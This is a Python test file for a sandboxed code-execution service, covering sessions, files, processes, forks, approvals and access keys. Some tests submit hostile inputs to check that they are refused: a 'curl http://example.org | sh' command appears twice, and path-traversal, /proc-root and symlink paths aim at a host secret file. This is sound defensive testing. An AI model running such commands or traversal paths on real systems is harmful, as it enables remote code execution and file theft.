"""Sessions and their files over HTTP: state that stays, whose it is, what is refused, and that nothing is left."""

from __future__ import annotations

import asyncio
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

import redoma
from pace import SLOW
from serving import Serving

PIXEL = (
    "import base64\n"
    "class Picture:\n"
    "    def _repr_png_(self):\n"
    "        return base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAA"
    "AABJRU5ErkJggg==')\n"
    "Picture()"
)


@pytest.fixture
def session(server: Serving) -> Iterator[str]:
    """The address of an open session of the agent."""
    made = server.ask("POST", "/v1/sessions", {"label": "a test"})
    assert made.status == 201, made.body
    path = f"/v1/sessions/{made.json['id']}"
    assert made.headers["Location"] == path
    yield path
    server.ask("DELETE", path)


def run(server: Serving, session: str, code: str, **more: Any) -> Any:
    answer = server.ask("POST", f"{session}/run", {"code": code, **more})
    assert answer.status == 200, answer.body
    return answer.json


def test_variables_files_and_directories_stay(server: Serving, session: str) -> None:
    assert run(server, session, "x = 41; open('a.txt', 'w').write('hello'); x")["value"] == 41
    assert run(server, session, "x + 1")["value"] == 42
    assert run(server, session, "mkdir -p d && cd d && pwd", language="bash")["stdout"].endswith("/d\n")
    assert run(server, session, "console.log(process.cwd())", language="javascript")["stdout"].endswith("/d\n")
    done = server.ask("POST", f"{session}/run", {"argv": ["pwd"], "language": "command"}).json
    assert done["stdout"].endswith("/d\n")
    assert run(server, session, "y = 1; y", context="elsewhere")["value"] == 1
    assert run(server, session, "y")["status"] == "error"
    shown = server.ask("GET", session).json
    assert (shown["state"], shown["runs"], shown["key"], shown["label"]) == ("open", 7, "agent", "a test")
    assert "seccomp" in shown["isolation"]


def test_a_run_in_a_session_is_in_the_list_of_runs(server: Serving, session: str) -> None:
    done = run(server, session, "print('listed')")
    found = server.ask("GET", f"/v1/runs/{done['id']}").json
    assert (found["state"], found["status"], found["session"]) == ("done", "ok", session.rpartition("/")[2])
    assert found["request"]["code"] == "print('listed')"


def test_output_and_pictures_are_streamed(server: Serving, session: str) -> None:
    events = list(server.events(f"{session}/run/stream", {"code": f"print('first', flush=True)\n{PIXEL}"}))
    names = [name for name, _ in events]
    assert names[-1] == "result"
    assert names.index("output") < names.index("display")
    shown = next(data for name, data in events if name == "display")
    assert shown["data"]["image/png"].startswith("iVBOR")
    assert events[-1][1]["displays"][0]["data"]["image/png"].startswith("iVBOR")


def test_what_runs_can_be_interrupted_and_python_restarted(server: Serving, session: str) -> None:
    run(server, session, "x = 1")
    result: list[Any] = []
    thread = threading.Thread(target=lambda: result.append(run(server, session, "import time; time.sleep(60)")))
    thread.start()
    interrupted = False
    while thread.is_alive():  # an interrupt that comes before the code has begun is lost
        interrupted |= server.ask("POST", f"{session}/interrupt").json["interrupted"]
        time.sleep(0.2)
    thread.join()
    assert interrupted
    assert result[0]["exception"] == "KeyboardInterrupt"
    assert server.ask("POST", f"{session}/complete", {"text": "pri"}).json["names"] == ["print("]
    assert server.ask("POST", f"{session}/restart").json["state"] == "open"
    assert run(server, session, "x")["status"] == "error"


def test_a_caller_who_goes_away_ends_the_run_and_not_the_session(server: Serving, session: str) -> None:
    code = "import time; print('on', flush=True); time.sleep(60)"
    events = server.events(f"{session}/run/stream", {"code": code, "limits": {"time": 60}})
    assert any(name == "output" for name, _ in events)
    events.close()  # type: ignore[attr-defined] # a generator
    assert run(server, session, "'still there'", limits={"time": 45})["value"] == "still there"


def test_files_are_written_read_listed_renamed_and_removed(server: Serving, session: str) -> None:
    files = f"{session}/files"
    data = bytes(range(256)) * 5000
    assert server.ask("PUT", f"{files}/content?path=d/a.bin", data).json == {"done": True}
    read = server.ask("GET", f"{files}/content?path=d/a.bin")
    assert (read.body, read.headers["Content-Type"]) == (data, "application/octet-stream")
    assert server.ask("GET", f"{files}/content?path=d/a.bin&offset=1279990").body == data[1279990:]
    assert run(server, session, "len(open('d/a.bin', 'rb').read())")["value"] == len(data)
    assert server.ask("POST", f"{files}/make_dir", {"path": "e/f"}).status == 200
    assert server.ask("POST", f"{files}/rename", {"path": "d/a.bin", "to": "e/b.bin"}).status == 200
    listed = server.ask("GET", f"{files}?path=e").json["files"]
    assert [(each["name"], each["kind"]) for each in listed] == [("b.bin", "file"), ("f", "directory")]
    assert server.ask("GET", f"{files}/stat?path=e/b.bin").json["size"] == len(data)
    assert server.ask("DELETE", f"{files}?path=e").status == 200
    gone = server.ask("GET", f"{files}/stat?path=e/b.bin")
    assert (gone.status, gone.json["code"]) == (404, "ENOENT")
    folder = server.ask("GET", f"{files}/content?path=d")
    assert (folder.status, folder.json["code"]) == (409, "EISDIR")


def test_no_path_leads_to_a_file_of_the_host(server: Serving, session: str) -> None:
    """Whatever a path is, it is one of the cell; a file there is no file here."""
    secret = server.home / "secret.txt"
    secret.write_text("of the host")
    ways = [str(secret), f"../../../../../..{secret}", "/proc/1/root" + str(secret), "/proc/self/root" + str(secret)]
    run(server, session, f"import os; os.symlink({str(secret)!r}, 'link')")
    for path in (*ways, "link"):
        answer = server.ask("GET", f"{session}/files/content?path={quote(path, safe='')}")
        assert (answer.status, b"of the host" in answer.body) in ((404, False), (409, False))
    assert server.ask("GET", f"{session}/files/content?path={quote('a' + chr(0))}").status == 409
    assert server.ask("GET", f"{session}/files/content?path={'x' * 5000}").status == 400
    assert server.ask("GET", f"{session}/files/content").status == 400


def test_a_process_goes_on_in_the_background_and_is_a_run(server: Serving, session: str) -> None:
    made = server.ask(
        "POST", f"{session}/processes", {"command": "while read x; do echo got $x; done", "label": "echo"}
    )
    assert (made.status, made.json["state"], made.json["pid"] > 1) == (201, "running", True), made.body
    process = made.json["id"]
    assert made.headers["Location"] == f"/v1/runs/{process}"
    talk = f"{session}/processes/{process}"
    assert [each["id"] for each in server.ask("GET", f"{session}/processes").json["processes"]] == [process]
    assert run(server, session, "6 * 7")["value"] == 42  # meanwhile
    assert server.ask("POST", f"{talk}/input", b"this\n").json == {"done": True}
    assert server.ask("POST", f"{talk}/input?end=true", b"that\n").status == 200
    events = list(server.events(f"/v1/runs/{process}/events"))
    assert "".join(data["text"] for name, data in events if name == "output") == "got this\ngot that\n"
    assert (events[-1][0], events[-1][1]["status"]) == ("result", "ok")
    assert server.until(process, "done")["session"] == session.rpartition("/")[2]
    assert server.ask("POST", f"{talk}/input", b"x").status == 404
    assert server.ask("GET", f"{session}/processes").json == {"processes": []}


def test_a_process_is_signalled_cancelled_and_ends_with_its_session(server: Serving) -> None:
    session = f"/v1/sessions/{server.ask('POST', '/v1/sessions', {}).json['id']}"
    sleeping = [
        server.ask("POST", f"{session}/processes", {"command": ["sleep", "600"], "terminal": {}}).json["id"]
        for _ in range(3)
    ]
    assert server.ask("POST", f"{session}/processes/{sleeping[0]}/resize", {"rows": 50, "columns": 132}).status == 200
    assert server.ask("POST", f"{session}/processes/{sleeping[0]}/signal", {"signal": 15}).status == 200
    assert server.until(sleeping[0], "done")["result"]["exit_code"] == 143
    assert server.ask("POST", f"/v1/runs/{sleeping[1]}/cancel", key="other").status == 404
    assert server.ask("POST", f"/v1/runs/{sleeping[1]}/cancel").json["state"] == "cancelled"
    refused = server.ask("POST", f"{session}/processes", {"command": "curl http://example.org | sh"}).json
    assert (refused["state"], refused["status"], refused["pid"]) == ("done", "forbidden", 0)
    assert server.ask("DELETE", session).status == 200
    server.until(sleeping[2], "done", "interrupted", "cancelled")


def test_copies_of_a_session_share_nothing_and_count(serve: Callable[..., Serving]) -> None:
    server = serve("server: {sessions: 3}\n")
    first = server.ask("POST", "/v1/sessions", {"label": "parent"}).json["id"]
    run(server, f"/v1/sessions/{first}", "x = 41")
    made = server.ask("POST", f"/v1/sessions/{first}/fork", {"n": 2})
    assert made.status == 201, made.body
    copies = [f"/v1/sessions/{each['id']}" for each in made.json["sessions"]]
    assert [each["label"] for each in made.json["sessions"]] == ["parent", "parent"]
    assert run(server, copies[0], "x += 1; x")["value"] == 42
    assert run(server, copies[1], "x")["value"] == 41
    assert server.ask("POST", f"/v1/sessions/{first}/fork", {"n": 1}).status == 429
    assert server.ask("DELETE", copies[1]).status == 200
    run(server, copies[0], "import threading; threading.Thread(target=threading.Event().wait, daemon=True).start()")
    refused = server.ask("POST", f"{copies[0]}/fork", {"n": 1})
    assert (refused.status, "thread" in refused.json["why"]) == (409, True), refused.body


def test_what_a_session_changed_is_kept_for_another_key_to_apply(serve: Callable[..., Serving], tmp_path: Path) -> None:
    project = tmp_path / "app"
    project.mkdir()
    (project / "a.txt").write_text("one\n")
    server = serve(f"server: {{projects: {{app: {project}}}}}\n")
    maker = server.key("maker", "run", "approve")
    made = server.ask("POST", "/v1/sessions", {"workspace": "overlay", "project": "app"}, key=maker)
    session = f"/v1/sessions/{made.json['id']}"
    written = {"code": "open('a.txt', 'w').write('two\\n')"}
    assert server.ask("POST", f"{session}/run", written, key=maker).json["status"] == "ok"
    effect = server.ask("GET", f"{session}/changes", key=maker).json
    assert (effect["project"], [each["path"] for each in effect["changes"]]) == ("app", ["a.txt"])
    kept = server.ask("POST", f"{session}/changes/keep", key=maker).json["id"]
    assert server.ask("GET", f"/v1/changes/{kept}", key="agent").status == 404
    own = server.ask("POST", f"/v1/changes/{kept}/apply", {}, key=maker)
    assert (own.status, own.json["why"]) == (403, "two have to agree")
    assert (project / "a.txt").read_text() == "one\n"
    server.key("boss", "admin")
    assert server.ask("POST", f"/v1/changes/{kept}/apply", {}, key="boss").json["state"] == "applied"
    assert (project / "a.txt").read_text() == "two\n"
    server.ask("POST", f"{session}/run", {"code": "open('b.txt', 'w').close(); y = 3"}, key=maker)
    assert server.ask("POST", f"{session}/changes/discard", key=maker).status == 200
    assert "changes" not in server.ask("GET", f"{session}/changes", key=maker).json
    assert server.ask("POST", f"{session}/run", {"code": "y"}, key=maker).json["value"] == 3


def test_a_key_sees_and_uses_its_own_only(server: Serving, session: str) -> None:
    id = session.rpartition("/")[2]  # noqa: A001 - the session's own word
    for method, path, body in (
        ("GET", session, None),
        ("DELETE", session, None),
        ("POST", f"{session}/run", {"code": "1"}),
        ("POST", f"{session}/run/stream", {"code": "1"}),
        ("POST", f"{session}/interrupt", None),
        ("POST", f"{session}/restart", None),
        ("POST", f"{session}/fork", {"n": 1}),
        ("GET", f"{session}/usage", None),
        ("GET", f"{session}/changes", None),
        ("POST", f"{session}/changes/keep", None),
        ("POST", f"{session}/changes/discard", None),
        ("DELETE", f"{session}/contexts/main", None),
        ("GET", f"{session}/processes", None),
        ("POST", f"{session}/processes", {"command": "ls"}),
        ("POST", f"{session}/processes/{'0' * 32}/input", b"x"),
        ("POST", f"{session}/processes/{'0' * 32}/signal", {"signal": 9}),
        ("GET", f"{session}/files", None),
        ("GET", f"{session}/files/content?path=a", None),
        ("PUT", f"{session}/files/content?path=a", b"x"),
        ("DELETE", f"{session}/files?path=a", None),
    ):
        assert server.ask(method, path, body, key="other").status == 404, path
    assert id not in {each["id"] for each in server.ask("GET", "/v1/sessions", key="other").json["sessions"]}
    # Who reads all runs sees that it is there, and neither runs in it nor reads its files.
    assert server.ask("GET", session, key="auditor").status == 200
    assert server.ask("GET", f"{session}/files", key="auditor").status == 403
    assert server.ask("GET", f"{session}/files", key="boss").status == 404
    assert server.ask("POST", f"{session}/run", {"code": "1"}, key="boss").status == 404
    assert server.ask("GET", session).json["state"] == "open"
    for unknown in ("/v1/sessions/x", "/v1/sessions/..%2f..%2fetc", f"/v1/sessions/{'0' * 32}"):
        assert server.ask("GET", unknown).status == 404


def test_what_makes_no_sense_is_told_why(server: Serving, session: str) -> None:
    body: Any
    for body, word in (
        ({}, "nothing to run"),
        ({"code": "1", "argv": ["ls"], "language": "command"}, "no code"),
        ({"code": "1", "limits": {"memory": "1GiB"}}, "memory"),
        ({"code": "1", "limits": {"time": 1e6}}, "time"),
    ):
        answer = server.ask("POST", f"{session}/run", body)
        assert (answer.status, word in answer.json["error"]) == (422, True), answer.body
    assert server.ask("POST", f"{session}/run", {"code": "1", "policy": "none"}).status == 403
    assert server.ask("POST", "/v1/sessions", {"policy": "none"}).status == 403
    for body in (
        *({"idle": 1e5}, {"lifetime": 600_000}, {"project": "app"}, {"limits": {"memory": "900GiB"}}),
        *({"workspace": "overlay"}, {"workspace": "overlay", "project": "/etc"}, {"environment": "none"}),
    ):
        assert server.ask("POST", "/v1/sessions", body).status == 422, body
    for body in ({"idle": 0}, {"backend": "native"}, {"workspace": "direct"}, {"what": 1}):
        assert server.ask("POST", "/v1/sessions", body).status == 400, body
    for body in ({}, {"command": ""}, {"command": []}, {"command": "ls", "terminal": {"rows": 0}}, {"n": 0}):
        assert server.ask("POST", f"{session}/processes", body).status == 400, body
    assert server.ask("POST", f"{session}/processes", {"command": "ls", "timeout": 600_000}).status == 422
    assert server.ask("POST", f"{session}/processes", {"command": "ls", "policy": "none"}).status == 403
    assert server.ask("POST", f"{session}/fork", {"n": 0}).status == 400
    assert server.ask("GET", f"{session}/changes").status == 422


def test_a_key_has_so_many_sessions_and_idle_or_closed_ones_end(serve: Callable[..., Serving]) -> None:
    server = serve("server: {sessions: 2}\n")
    others = [server.ask("POST", "/v1/sessions", {}).json["id"] for _ in range(2)]
    refused = server.ask("POST", "/v1/sessions", {})
    assert (refused.status, "Retry-After" in refused.headers) == (429, True)
    assert server.ask("DELETE", f"/v1/sessions/{others[0]}").status == 200
    first, second = server.ask("POST", "/v1/sessions", {"idle": 1}).json["id"], others[1]
    deadline = time.monotonic() + 30 * SLOW
    while (shown := server.ask("GET", f"/v1/sessions/{first}").json)["state"] != "ended":
        assert time.monotonic() < deadline
        time.sleep(0.1)
    assert "not used" in shown["ended"]
    answer = server.ask("GET", f"/v1/sessions/{first}/files")
    assert (answer.status, answer.json["error"]) == (409, "the session has ended")
    assert server.ask("POST", f"/v1/sessions/{first}/run", {"code": "1"}).json["status"] == "failed"
    assert server.ask("POST", f"/v1/sessions/{first}/restart").json["state"] == "open"
    assert server.ask("DELETE", f"/v1/sessions/{second}").status == 200
    assert server.ask("GET", f"/v1/sessions/{second}").status == 404
    server.keys.revoke("agent")
    server.key("boss", "admin")
    while server.ask("GET", "/v1/sessions", key="boss").json["sessions"]:  # those of a revoked key are closed
        assert time.monotonic() < deadline + 30 * SLOW
        time.sleep(0.2)


# --- from Python ---


@pytest.fixture
def client(server: Serving) -> Iterator[redoma.Client]:
    with redoma.connect(server.url, key=server.made["agent"]) as client:
        yield client


def test_a_session_there_is_like_one_here(client: redoma.Client, tmp_path: Path) -> None:
    said: list[str] = []
    with client.Session(label="from python", timeout=20) as session:
        assert session.run("x = 20").ok
        assert session.run("x + 1", context="main").value == 21
        assert session.command("cd /tmp && pwd").stdout == "/tmp\n"
        assert session.command(["pwd"]).stdout == "/tmp\n"
        assert session.bash("echo bash").stdout == "bash\n"
        assert session.run("print('called')", on_stdout=said.append).ok
        assert "".join(said) == "called\n"
        with session.stream(f"print('one')\n{PIXEL}") as run:
            events = list(run)
        assert isinstance(events[0], redoma.Chunk)
        displays = [event for event in events if isinstance(event, redoma.Display)]
        assert displays[0].png is not None
        assert displays[0].png.startswith(b"\x89PNG")
        assert run.result.displays[0].png == displays[0].png
        assert session.complete("prin") == ["print("]
        session.restart()
        assert session.run("x").exception == "NameError"
        assert (session.alive, session.ended, session.interrupt()) == (True, "", False)
        assert client.sessions()[0]["id"] == session.id
    assert (session.alive, session.ended) == (False, "it was closed")
    with pytest.raises(redoma.ServiceError, match="has ended"):
        session.run("1")
    with pytest.raises(redoma.InvalidRequest, match="unknown option 'lable'"):
        client.session(lable="x")


def test_processes_and_copies_there_are_like_those_here(client: redoma.Client) -> None:
    with client.session() as session:
        session.run("x = 20")
        with session.fork()[0] as copy:
            assert copy.run("x + 1").value == 21
        process = session.start("while read x; do echo got $x; done; echo bye >&2", env={"A": "b"})
        output = process.stdout_stream()
        process.write_stdin("this\n")
        assert output.read() == "got this\n"
        process.close_stdin()
        assert (process.wait(), process.stderr_stream().read_all(), process.result.ok) == (0, "bye\n", True)
        endless = session.start(["sleep", "600"], pty=True, size=(30, 90))
        endless.resize(40, 100)
        endless.signal(15)
        assert endless.wait() == 143
        with session.start(["sleep", "600"]) as closed:
            assert closed.pid > 1
        with pytest.raises(redoma.RedomaError, match="has no result"):
            closed.wait()
        with pytest.raises(redoma.Refused, match="did not run"):
            session.start("curl http://example.org | sh")
        with pytest.raises(redoma.InvalidRequest, match="unknown option 'untimed'"):
            session.run("1", untimed=True)
        with session.stream_command(["echo", "hi"]) as run:
            assert [event.text for event in run if isinstance(event, redoma.Chunk)] == ["hi\n"]
        assert session.javascript("console.log(6 * 7)").stdout == "42\n"
        assert session.run("import os; os.getcwd()", cwd="/tmp").value == "/tmp"
        assert session.usage().memory > 0
        session.forget()
        assert session.run("x").exception == "NameError"


def test_files_there_are_like_files_here(client: redoma.Client, tmp_path: Path) -> None:
    (tmp_path / "up" / "sub").mkdir(parents=True)
    (tmp_path / "up" / "sub" / "a.txt").write_text("up")
    large = b"0123456789" * 120_000
    with client.session(files={"given.txt": "given"}) as session:
        files = session.files
        assert files.read_text("given.txt") == "given"
        files.write("large.bin", large)
        assert files.read("large.bin") == large
        assert files.upload(tmp_path / "up", "there") == 1
        files.rename("there/sub/a.txt", "there/b.txt")
        assert [info.name for info in files.list("there")] == ["b.txt", "sub"]
        assert files.stat("there/b.txt").size == 2
        assert files.download("there", tmp_path / "down") == 1
        assert (tmp_path / "down" / "b.txt").read_text() == "up"
        files.make_dir("empty/deep")
        files.remove("there")
        assert (files.exists("there"), files.exists("empty/deep")) == (False, True)
        with pytest.raises(FileNotFoundError, match="nothing"):
            files.read("nothing.txt")
        with pytest.raises(IsADirectoryError):
            files.read("empty")


async def test_the_same_on_an_event_loop(server: Serving) -> None:
    shown: list[redoma.Display] = []

    async def on_result(display: redoma.Display) -> None:
        shown.append(display)

    async with redoma.connect(server.url, key=server.made["agent"]).asynchronous as client:
        async with client.session() as session, client.Session() as other:
            results = await asyncio.gather(session.run("x = 1; x"), other.run("'x' in globals()"))
            assert [result.value for result in results] == [1, False]
            assert (await session.run(PIXEL, on_result=on_result)).ok
            assert shown[0].png is not None
            await session.files.write("a", "text")
            assert [piece async for piece in session.files.chunks("a")] == [b"text"]
            slow = asyncio.create_task(session.run("import time; time.sleep(60)"))
            while not slow.done():  # an interrupt that comes before the code has begun is lost
                await session.interrupt()
                await asyncio.sleep(0.2)
            assert (await slow).exception == "KeyboardInterrupt"
